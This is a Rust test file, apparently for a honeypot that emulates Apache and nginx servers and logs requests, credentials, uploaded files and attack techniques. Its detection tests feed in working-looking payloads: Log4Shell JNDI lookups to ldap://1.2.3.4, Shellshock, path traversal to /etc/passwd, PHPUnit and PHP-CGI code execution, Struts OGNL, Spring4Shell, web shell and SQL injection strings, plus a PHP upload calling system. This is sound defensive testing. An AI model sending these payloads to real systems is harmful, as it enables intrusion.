//! What attackers bring, and what is said of it.

use super::{apache, nginx, of_kind, talk};
use crate::testing;

#[test]
fn every_request_is_told_once_with_its_headers_in_order() {
    let host = testing::host(1);
    let input = "GET /a?b=c HTTP/1.1\r\nHost: x\r\nX-B: 1\r\nUser-Agent: \"q\"\\\r\nx-b: 2\r\n\r\nHEAD / HTTP/1.1\r\nHost: x\r\n\r\n";
    for web in [apache(&host, &[]), nginx(&host, &[])] {
        let (_, events) = talk(&host, &web, input);
        let requests = of_kind(&events, "request");
        assert_eq!(requests.len(), 2);
        let first = requests[0];
        assert_eq!(first.get("headers"), r#"{"Host":"x","X-B":["1","2"],"User-Agent":"\"q\"\\"}"#);
        let fields =
            ["method", "path", "query", "http_version", "host", "user_agent", "status"].map(|f| first.get(f));
        assert_eq!(fields, ["GET", "/a", "b=c", "HTTP/1.1", "x", "\"q\"\\", "404"]);
        assert_eq!(requests[1].get("status"), "200");
    }
}

#[test]
fn credentials_are_found_wherever_they_stand() {
    let host = testing::host(1);
    let web = apache(&host, &[]);
    let check = |head: &str, body: &str, expect: (&str, &str, &str)| {
        let input =
            format!("POST /x HTTP/1.1\r\nHost: a\r\n{head}Content-Length: {}\r\n\r\n{body}", body.len());
        let (_, events) = talk(&host, &web, &input);
        let attempts = of_kind(&events, "auth_attempt");
        assert_eq!(attempts.len(), 1, "{head} {body}: {events:?}");
        assert_eq!(
            (attempts[0].get("mechanism"), attempts[0].get("username"), attempts[0].get("password")),
            expect
        );
    };
    check("Authorization: Basic YWRtaW46cDphc3M=\r\n", "", ("basic", "admin", "p:ass"));
    check("Authorization: Basic ???\r\n", "", ("basic", "???", ""));
    check(
        "Authorization: Digest username=\"admin\", realm=\"a\", response=\"deadbeef\"\r\n",
        "",
        ("digest", "admin", "deadbeef"),
    );
    check("Authorization: Bearer abc.def\r\n", "", ("bearer", "", "abc.def"));
    check("", "user=a%40b&other=1&password=p+w%26", ("form", "a@b", "p w&"));
    check(
        "Content-Type: application/json\r\n",
        r#"{"username":"root","password":"toor"}"#,
        ("form", "root", "toor"),
    );
    check(
        "Content-Type: multipart/form-data; boundary=XX\r\n",
        "--XX\r\nContent-Disposition: form-data; name=\"user\"\r\n\r\nme\r\n--XX\r\nContent-Disposition: form-data; name=\"pass\"\r\n\r\nit\r\n--XX--\r\n",
        ("form", "me", "it"),
    );
}

#[test]
fn known_ways_of_attack_are_named() {
    let host = testing::host(1);
    let web = nginx(&host, &[]);
    let check = |line: &str, head: &str, body: &str, technique: &str| {
        let input =
            format!("{line} HTTP/1.1\r\nHost: a\r\n{head}Content-Length: {}\r\n\r\n{body}", body.len());
        let (_, events) = talk(&host, &web, &input);
        let named: Vec<_> =
            of_kind(&events, "exploit_attempt").iter().map(|e| e.get("technique").to_owned()).collect();
        match technique {
            "" => assert!(named.is_empty(), "{line}: {named:?}"),
            technique => assert!(named.iter().any(|n| n == technique), "{line}: {named:?}"),
        }
    };
    check("GET /", "User-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n", "", "");
    check("GET /index.html?page=2", "", "", "");
    check("POST /contact", "", "name=Ann&text=hello+there", "");
    check("GET /", "X-Api: ${jndi:ldap://1.2.3.4/a}\r\n", "", "log4shell");
    check("GET /?x=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D", "", "", "log4shell");
    check("GET /cgi-bin/x", "User-Agent: () { :;}; /bin/id\r\n", "", "shellshock");
    check("GET /cgi-bin/.%2e/.%2e/bin/sh", "", "", "path_traversal");
    check("GET /%252e%252e/%252e%252e/etc/passwd", "", "", "path_traversal");
    check("POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "", "<?php echo 1;", "phpunit_rce");
    check("POST /index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", "", "", "php_cgi");
    check("GET /.git/HEAD", "", "", "git_exposure");
    check("GET /?a=%&b=%24%7bjndi:x%7d%2", "", "", "log4shell");
    check("GET /", "Cookie: x=%2524%257bjndi:ldap://a%257d\r\n", "", "log4shell");
    check(
        "GET /",
        "Content-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT)}\r\n",
        "",
        "struts_ognl",
    );
    check("POST /", "", "class.module.classLoader.resources.context=1", "spring4shell");
    check("GET /shell.php?cmd=id", "", "", "web_shell");
    check("GET http://example.org/", "", "", "open_proxy");
    check("CONNECT example.org:443", "", "", "open_proxy");
    check("PUT /x.jsp", "", "<% out.print(1); %>", "file_write");
    check("GET /boaform/admin/formLogin?username=a&psd=b", "", "", "router_exploit");
    check("GET /?id=1'+UNION+SELECT+1,2--", "", "", "sql_injection");
}

#[test]
fn files_that_are_brought_are_kept() {
    let host = testing::host(1);
    let part = "--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"s.php\"\r\n\r\n<?php system(1);\r\n--XX--\r\n";
    let upload = format!(
        "POST /up HTTP/1.1\r\nHost: a\r\nContent-Type: multipart/form-data; boundary=XX\r\nContent-Length: {}\r\n\r\n{part}",
        part.len()
    );
    let put = "PUT /x.jsp HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\n\r\nabc".to_owned();
    let large =
        format!("POST /large HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n{}", "z".repeat(100_000));
    let chunked =
        "PUT /y HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nab\r\n1\r\nc\r\n0\r\n\r\n"
            .to_owned();
    let abc = "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad";
    for web in [apache(&host, &[]), nginx(&host, &[])] {
        for (input, path, size, sha256) in [
            (&upload, "s.php", "16", "f7ad4c6b4b6f0e0b3a1f2f5f8c3f5f4d"),
            (&put, "/x.jsp", "3", abc),
            (&large, "/large", "100000", ""),
            (&chunked, "/y", "3", abc),
        ] {
            let (_, events) = talk(&host, &web, input);
            let kept = of_kind(&events, "file_captured");
            assert_eq!(kept.len(), 1, "{path}: {events:?}");
            assert_eq!((kept[0].get("orig_path"), kept[0].get("size")), (path, size));
            assert_eq!(kept[0].get("truncated"), "false");
            if sha256 == abc {
                assert_eq!(kept[0].get("sha256"), abc);
            }
        }
    }
}

#[test]
fn a_body_that_ends_early_is_still_told() {
    let host = testing::host(1);
    for web in [apache(&host, &[]), nginx(&host, &[])] {
        let (_, events) = talk(&host, &web, "PUT /x HTTP/1.1\r\nHost: a\r\nContent-Length: 50\r\n\r\nabc");
        assert_eq!(of_kind(&events, "request")[0].get("body"), "abc");
        assert_eq!(of_kind(&events, "file_captured")[0].get("truncated"), "true");
    }
}
